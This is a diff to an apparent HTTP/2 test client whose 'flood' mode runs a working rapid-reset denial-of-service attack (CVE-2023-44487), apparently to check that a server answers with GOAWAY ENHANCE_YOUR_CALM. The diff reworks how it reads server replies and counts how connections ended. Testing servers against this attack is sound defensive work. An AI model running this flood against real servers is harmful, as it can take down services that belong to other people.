@@ -12,14 +12,19 @@ and holds them until SIGTERM/SIGINT.
 flood: rapid reset (CVE-2023-44487) for SECONDS: on one connection at a time, opens a
 stream with `GET PATH` and resets it (RST_STREAM CANCEL) at once, BATCH streams per write,
 reading whatever the server sends between batches. When the server ends the connection
-(GOAWAY, or a reset of the socket) it opens the next one. At the end it prints
+(GOAWAY, or a close or reset of the socket) it opens the next one. At the end it prints
 
-    FLOOD seconds=5.0 connections=12 streams=118000 goaway=ENHANCE_YOUR_CALM:11 closed=0
+    FLOOD seconds=5.0 connections=12 streams=118000 goaway=ENHANCE_YOUR_CALM:11 ended=goaway:11,eof:1
+
+goaway counts the GOAWAY frames read, by error code; ended counts how the connections
+ended: with a GOAWAY read, at the end of the stream without one (eof), or with an error
+(on a write: "write ERROR", after reading what the server sent before it closed).
 
 Only the address given is ever contacted. Needs the `h2` package (pip install h2).
 """
 
 import argparse
+import errno
 import resource
 import selectors
 import signal
@@ -194,59 +199,76 @@ def idle_main(args):
     return 0 if failed == 0 and closed == 0 else 1
 
 
+def error_name(e):
+    if isinstance(e, (ssl.SSLError, h2.exceptions.ProtocolError)):
+        return type(e).__name__
+    return errno.errorcode.get(e.errno, type(e).__name__)
+
+
+def take_in(s, conn, goaways, wait):
+    """Feeds CONN what the server has sent, waiting up to WAIT seconds (0: not at all);
+    returns how the connection ended ("goaway", "eof" or an error), or None while open."""
+    if wait:
+        s.settimeout(wait)
+    else:
+        s.setblocking(False)
+    try:
+        while True:
+            data = s.recv(65536)
+            if not data:
+                return "eof"
+            for ev in conn.receive_data(data):
+                if isinstance(ev, h2.events.ConnectionTerminated):
+                    name = getattr(ev.error_code, "name", str(ev.error_code))
+                    goaways[name] = goaways.get(name, 0) + 1
+                    return "goaway"
+    except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError, socket.timeout):
+        return None
+    except (OSError, h2.exceptions.ProtocolError) as e:
+        return error_name(e)
+
+
 def flood_main(args):
     ctx = tls_context()
     headers = request_headers(args)
     deadline = time.monotonic() + args.seconds
-    connections = streams = closed = 0
-    goaways = {}
+    connections = streams = 0
+    goaways, ends = {}, {}
     while time.monotonic() < deadline:
         try:
             raw = socket.create_connection((args.host, args.port), timeout=5)
             s = ctx.wrap_socket(raw)
         except OSError as e:
-            closed += 1
-            print(f"h2_clients: connect: {e}", file=sys.stderr)
+            ends["connect " + error_name(e)] = ends.get("connect " + error_name(e), 0) + 1
             time.sleep(0.1)
             continue
         connections += 1
         conn = new_h2()
-        ended = False
-        try:
-            s.sendall(conn.data_to_send())
-            while not ended and time.monotonic() < deadline:
+        end = None
+        while end is None and time.monotonic() < deadline:
+            try:
                 for _ in range(args.batch):
                     sid = conn.get_next_available_stream_id()
                     conn.send_headers(sid, headers)
                     conn.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
                     streams += 1
-                s.sendall(conn.data_to_send())
-                s.setblocking(False)
-                try:
-                    while True:
-                        data = s.recv(65536)
-                        if not data:
-                            closed += 1
-                            ended = True
-                            break
-                        for ev in conn.receive_data(data):
-                            if isinstance(ev, h2.events.ConnectionTerminated):
-                                name = getattr(ev.error_code, "name", str(ev.error_code))
-                                goaways[name] = goaways.get(name, 0) + 1
-                                ended = True
-                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
-                    pass
                 s.settimeout(5)
-                out = conn.data_to_send()
-                if out and not ended:
-                    s.sendall(out)
-        except (OSError, h2.exceptions.ProtocolError):
-            if not ended:
-                closed += 1
+                s.sendall(conn.data_to_send())
+            except (OSError, h2.exceptions.ProtocolError) as e:
+                # The server ended the connection while we wrote: what it sent before may
+                # hold its GOAWAY.
+                end = "goaway" if take_in(s, conn, goaways, 0.5) == "goaway" else "write " + error_name(e)
+                break
+            end = take_in(s, conn, goaways, 0)
+        if end is not None:
+            ends[end] = ends.get(end, 0) + 1
         s.close()
-    gone = ",".join(f"{k}:{v}" for k, v in sorted(goaways.items())) or "none"
-    print(f"FLOOD seconds={args.seconds} connections={connections} streams={streams} goaway={gone} "
-          f"closed={closed}", flush=True)
+
+    def show(table):
+        return ",".join(f"{k}:{v}" for k, v in sorted(table.items())) or "none"
+
+    print(f"FLOOD seconds={args.seconds} connections={connections} streams={streams} "
+          f"goaway={show(goaways)} ended={show(ends)}", flush=True)
     return 0
 
 
